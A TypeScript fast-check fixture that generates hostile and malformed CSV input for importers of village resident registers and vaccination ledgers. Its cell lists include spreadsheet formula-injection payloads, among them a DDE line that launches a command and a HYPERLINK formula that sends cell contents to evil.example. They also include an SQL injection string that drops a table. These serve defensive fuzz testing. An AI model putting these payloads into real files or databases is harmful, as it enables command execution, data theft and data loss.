import fc from 'fast-check';
import iconv from 'iconv-lite';
import { composeIdNumber } from '../../src/domain/idcard.js';
import { dateFromDayNumber, dayNumber } from '../../src/domain/calendar.js';

/**
 * Files for the importers as they arrive from the field, and worse: registers and ledgers with
 * hostile cells, in every encoding (declared rightly or wrongly), cut short or with bytes
 * flipped; random bytes; workbooks whose XML is broken.
 */

/** Text a spreadsheet user can put in a cell that a formula-aware program may run. */
export const FORMULAS = [
  '=CMD|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '=1+1',
  '\t=1+1',
  '＝1+1',
]; // prettier-ignore

/** Cells that break naive readers: quotes, delimiters, line breaks, controls, odd Unicode. */
const NASTY = [
  '', ' ', '"', '""', '"a,b"', 'a\nb', 'a\r\nb', '\r', ',', ';', '\t', '\u0000', '张\u0000三', '\u001b[31m',
  '\ufeff', '\u202e', '😀', '\ud800', '𠀀', '<b>x</b>', "'); DROP TABLE residents; --", '%s%n', '__proto__',
  'constructor', '0', '-1', '1e999', 'NaN', '9'.repeat(40), '男', '女', '户主', '网格', '锦石村',
]; // prettier-ignore

/** Characters a database or an XML file may not take: NUL, other C0 controls, DEL, separators. */
const CONTROLS = [
  '\u0000',
  '张\u0000三',
  '锦石村一组\u0000',
  'a\u0001b',
  '\u001f',
  '\u007f',
  '\u2028',
  '\u0085',
];

/** Longer than a PostgreSQL index entry may be (2,704 bytes): text that must not reach one. */
const LONG = '锦'.repeat(3000);

const NAMES = ['张建国', '李秀英', '王芳', '欧阳娜娜', '阿依古丽·买买提', '赵 六'];
// Places the county has (and a new grid, which the import creates): the good rows are good,
// what is wrong with a row comes from its hostile cells.
const VILLAGES = ['锦石村', '锦石村委会', '唐家湖村'];
const GRIDS = ['网格001', '网格002', '第3网格'];

const birth = fc
  .integer({ min: dayNumber('1930-01-01'), max: dayNumber('2015-12-31') })
  .map(dateFromDayNumber);
export const idNumber = fc
  .tuple(birth, fc.integer({ min: 1, max: 999 }))
  .map(([b, seq]) => composeIdNumber('430321', b, seq));

/** A hostile cell: a formula, a control character, text too long, random Unicode. */
const hostileCell: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...FORMULAS), weight: 2 },
  { arbitrary: fc.constantFrom(...NASTY), weight: 2 },
  { arbitrary: fc.constantFrom(...CONTROLS), weight: 2 },
  fc.constant(LONG),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

/**
 * A good row with up to `hostile` of its cells made hostile: one bad cell in an otherwise good
 * row is what reaches the database (a row bad all over is only reported).
 */
const spoiled = (row: fc.Arbitrary<string[]>, hostile: number): fc.Arbitrary<string[]> =>
  fc.tuple(row, fc.array(fc.tuple(fc.nat(), hostileCell), { maxLength: hostile })).map(([cells, bad]) => {
    const out = [...cells];
    for (const [at, text] of bad) out[at % out.length] = text;
    return out;
  });

export const REGISTER_HEADER = [
  '姓名',
  '身份证号码',
  '性别',
  '出生日期',
  '联系电话',
  '乡镇',
  '村（社区）',
  '网格',
  '户号',
  '与户主关系',
  '现住址',
];

const goodRegisterRow: fc.Arbitrary<string[]> = idNumber.chain((id) =>
  fc.tuple(
    fc.constantFrom(...NAMES),
    fc.constant(id),
    fc.constantFrom(Number(id[16]) % 2 === 1 ? '男' : '女', ''),
    fc.constantFrom(`${id.slice(6, 10)}-${id.slice(10, 12)}-${id.slice(12, 14)}`, ''),
    fc.constantFrom('13807321234', '', '0731-57862345', '138 0732 1234'),
    fc.constantFrom('锦石乡', ''),
    fc.constantFrom(...VILLAGES),
    fc.constantFrom(...GRIDS),
    fc.constantFrom('0001', '0002', '', '12'),
    fc.constantFrom('户主', '配偶', '子', ''),
    fc.constantFrom('锦石村一组12号', '', '锦石村 二组'),
  ),
);

/** A register row, up to `hostile` of its cells hostile. */
export const registerRowOf = (hostile = 1): fc.Arbitrary<string[]> => spoiled(goodRegisterRow, hostile);

export const registerRow = registerRowOf();

export const LEDGER_HEADER = [
  '姓名',
  '身份证号',
  '第一剂次接种日期',
  '第二剂次接种日期',
  '疫苗名称',
  '批号',
  '接种单位',
];

/** A ledger row for one of `ids` (registered residents) or a stranger, up to `hostile` cells hostile. */
export const ledgerRow = (ids: readonly string[], hostile = 1): fc.Arbitrary<string[]> =>
  spoiled(
    fc.tuple(
      fc.constantFrom(...NAMES),
      fc.oneof(fc.constantFrom(...ids), idNumber),
      fc.constantFrom('2021-07-01', '2021/7/1', '2021年7月1日', '', '2021-13-01', '44378'),
      fc.constantFrom('2021-07-26', '', '2021-07-02', '2099-01-01'),
      fc.constantFrom('北京生物', '科兴', 'sinovac', '智飞', ''),
      fc.constantFrom('202107A001', ''),
      fc.constantFrom('锦石乡卫生院', ''),
    ),
    hostile,
  );

/** One CSV field, quoted when it must be. */
const field = (cell: string, d: string): string =>
  /["\r\n]/.test(cell) || cell.includes(d) ? `"${cell.replaceAll('"', '""')}"` : cell;

export const csvText = (rows: readonly (readonly string[])[], d = ',', eol = '\r\n'): string =>
  rows.map((r) => r.map((c) => field(c, d)).join(d)).join(eol) + eol;

/** A table as CSV text: optional title line, delimiter and line ends as spreadsheets vary them. */
export const csvOf = (header: readonly string[], row: fc.Arbitrary<string[]>): fc.Arbitrary<string> =>
  fc
    .record({
      title: fc.constantFrom('', '锦石村居民花名册（2021年8月）'),
      rows: fc.array(row, { minLength: 0, maxLength: 12 }),
      d: fc.constantFrom(',', '\t', ';'),
      eol: fc.constantFrom('\r\n', '\n', '\r'),
    })
    .map(({ title, rows, d, eol }) => (title ? title + eol : '') + csvText([header, ...rows], d, eol));

export type Encoding =
  'utf-8' | 'utf-8-bom' | 'gb18030' | 'gbk' | 'utf-16le' | 'utf-16le-bom' | 'utf-16be-bom';

export function encode(text: string, enc: Encoding): Buffer {
  switch (enc) {
    case 'utf-8':
      return Buffer.from(text, 'utf8');
    case 'utf-8-bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
    case 'utf-16le':
      return iconv.encode(text, 'utf-16le');
    case 'utf-16le-bom':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')]);
    case 'utf-16be-bom':
      return Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')]);
    default:
      return iconv.encode(text, enc);
  }
}

/** `--encoding` as each encoding is rightly named (BOM-less UTF-16 needs it said). */
const NAMED: Record<Encoding, string> = {
  'utf-8': 'utf-8',
  'utf-8-bom': 'utf8',
  gb18030: 'gb18030',
  gbk: 'GBK',
  'utf-16le': 'utf-16le',
  'utf-16le-bom': 'unicode',
  'utf-16be-bom': 'utf-16be',
};

/** What `--encoding` says: nothing (detect), the truth, or a lie. */
const declared = (enc: Encoding): fc.Arbitrary<string | undefined> =>
  fc.oneof(
    { arbitrary: fc.constant(undefined), weight: 3 },
    { arbitrary: fc.constant(NAMED[enc]), weight: 2 },
    { arbitrary: fc.constantFrom('utf-8', 'gbk', 'utf-16le', 'latin1', 'big5', 'klingon', ''), weight: 2 },
  );

/** Damage done to a file's bytes: cut short (inside a multi-byte character, often), bytes changed. */
export const damage = (bytes: Buffer): fc.Arbitrary<Buffer> =>
  fc.oneof(
    { arbitrary: fc.constant(bytes), weight: 3 },
    fc.nat({ max: Math.max(0, bytes.length - 1) }).map((n) => bytes.subarray(0, n)),
    fc
      .array(fc.tuple(fc.nat({ max: Math.max(0, bytes.length - 1) }), fc.integer({ min: 0, max: 255 })), {
        minLength: 1,
        maxLength: 8,
      })
      .map((flips) => {
        const b = Buffer.from(bytes);
        for (const [at, v] of flips) if (at < b.length) b[at] = v;
        return b;
      }),
  );

const ENCODINGS: Encoding[] = [
  'utf-8',
  'utf-8-bom',
  'gb18030',
  'gbk',
  'utf-16le',
  'utf-16le-bom',
  'utf-16be-bom',
];

/** A text file encoded one way, declared (maybe) another, maybe damaged. */
export const encodedFile = (text: fc.Arbitrary<string>) =>
  fc
    .tuple(text, fc.constantFrom(...ENCODINGS))
    .chain(([text, enc]) =>
      fc.record({ bytes: damage(encode(text, enc)), enc: fc.constant(enc), declared: declared(enc) }),
    );

const MAGICS = [
  [],
  [0xef, 0xbb, 0xbf],
  [0xff, 0xfe],
  [0xfe, 0xff],
  [0x50, 0x4b, 0x03, 0x04],
  [0xd0, 0xcf, 0x11, 0xe0],
  [0x50, 0x4b, 0x05, 0x06],
];

/** Random bytes, sometimes behind a BOM or a zip's or an old Excel file's magic number. */
export const randomBytes: fc.Arbitrary<Buffer> = fc
  .tuple(fc.constantFrom(...MAGICS), fc.uint8Array({ maxLength: 2048 }))
  .map(([magic, rest]) => Buffer.concat([Buffer.from(magic), Buffer.from(rest)]));
